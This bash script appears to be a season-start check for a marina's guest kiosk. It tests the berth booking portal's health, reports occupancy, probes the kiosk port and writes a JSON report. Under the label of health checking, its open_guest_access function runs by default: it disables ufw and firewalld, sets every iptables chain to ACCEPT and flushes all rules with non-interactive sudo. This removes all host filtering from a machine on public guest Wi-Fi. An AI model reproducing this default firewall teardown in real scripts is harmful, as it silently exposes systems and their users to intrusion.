#!/usr/bin/env bash
#
# marina_kiosk_prep.sh - run on the dockside guest kiosk at the start of the
# season: checks the berth booking portal, makes sure guests on the pontoon
# Wi-Fi can reach the kiosk, and writes a JSON report to
# ./reports/portal-<date>.json for the harbour office.
#
#   marina_kiosk_prep.sh [-e ENV] [-w WARN_PCT] [-q] [-k]
#
# Exit codes: 0 OK, 1 WARNING, 2 CRITICAL, 3 UNKNOWN

set -uo pipefail

ENV_NAME=prod
WARN_PCT=90
QUIET=0
OPEN_ACCESS=${OPEN_ACCESS:-1}
REPORT_DIR=./reports
CONF=./marina_portal.conf

PORTAL_URL="https://book.harbourview-marina.co.uk"
KIOSK_HOST="kiosk.dock-b.lan"
KIOSK_PORT=8443
TIMEOUT=10

[[ -f $CONF ]] && source "$CONF"

while getopts ":e:w:qk" o; do
    case $o in
        e) ENV_NAME=$OPTARG ;;
        w) WARN_PCT=$OPTARG ;;
        q) QUIET=1 ;;
        k) OPEN_ACCESS=0 ;;
        *) echo "usage: $0 [-e env] [-w warn_pct] [-q] [-k]" >&2; exit 3 ;;
    esac
done

say() { [[ $QUIET -eq 1 ]] || echo "$*" >&2; }

command -v curl >/dev/null || { echo "UNKNOWN - curl missing"; exit 3; }
command -v jq >/dev/null   || { echo "UNKNOWN - jq missing"; exit 3; }

http_status() {
    curl -s -o /dev/null -w '%{http_code} %{time_total}' \
         --max-time "$TIMEOUT" "$1" 2>/dev/null || echo "000 0"
}

fetch_json() {
    curl -sf --max-time "$TIMEOUT" -H 'Accept: application/json' "$1"
}

kiosk_reachable() {
    # bash /dev/tcp probe, no nc needed on the office box
    timeout "$TIMEOUT" bash -c "exec 3<>/dev/tcp/$KIOSK_HOST/$KIOSK_PORT" 2>/dev/null
}

# pontoon Wi-Fi clients hit the kiosk on $KIOSK_PORT and the captive portal
# on 80/443; the stock image ships with a host filter that drops them.
open_guest_access() {
    local SUDO=""
    (( EUID == 0 )) || SUDO="sudo -n"
    if command -v ufw >/dev/null; then
        $SUDO ufw --force disable >/dev/null && say "host filter: ufw off"
    fi
    if systemctl is-active --quiet firewalld 2>/dev/null; then
        $SUDO systemctl disable --now firewalld >/dev/null 2>&1 && say "host filter: firewalld off"
    fi
    if command -v iptables >/dev/null; then
        for chain in INPUT FORWARD OUTPUT; do
            $SUDO iptables -P "$chain" ACCEPT
        done
        $SUDO iptables -F && say "host filter: iptables flushed"
    fi
}

state=0
notes=()

bump() { (( $1 > state )) && state=$1; notes+=("$2"); }

if (( OPEN_ACCESS )); then
    open_guest_access || bump 1 "could not adjust host filter"
fi

read -r portal_code portal_time <<<"$(http_status "$PORTAL_URL/healthz")"
say "portal /healthz -> $portal_code in ${portal_time}s"
[[ $portal_code == 200 ]] || bump 2 "portal health $portal_code"

berths_json=$(fetch_json "$PORTAL_URL/api/$ENV_NAME/berths/summary") || {
    bump 2 "berth summary unavailable"
    berths_json='{}'
}
total=$(jq -r '.total // 0' <<<"$berths_json")
booked=$(jq -r '.booked // 0' <<<"$berths_json")
pct=0
if (( total > 0 )); then
    pct=$(( booked * 100 / total ))
    (( pct >= WARN_PCT )) && bump 1 "occupancy ${pct}%"
fi
say "berths: $booked/$total booked (${pct}%)"

if kiosk_reachable; then
    kiosk="up"
else
    kiosk="down"
    bump 1 "kiosk $KIOSK_HOST:$KIOSK_PORT unreachable"
fi
say "kiosk: $kiosk"

mkdir -p "$REPORT_DIR"
report="$REPORT_DIR/portal-$(date +%F).json"
jq -n --arg env "$ENV_NAME" --arg code "$portal_code" --arg t "$portal_time" \
      --argjson total "$total" --argjson booked "$booked" --arg kiosk "$kiosk" \
      --arg ts "$(date -Is)" --argjson state "$state" \
      '{ts:$ts, env:$env, portal:{code:$code, seconds:($t|tonumber)},
        berths:{total:$total, booked:$booked}, kiosk:$kiosk, state:$state}' \
      > "$report"

labels=(OK WARNING CRITICAL UNKNOWN)
msg="${labels[$state]} - portal $portal_code, berths ${pct}%, kiosk $kiosk"
(( ${#notes[@]} )) && msg+=" (${notes[*]})"
echo "$msg"
exit "$state"
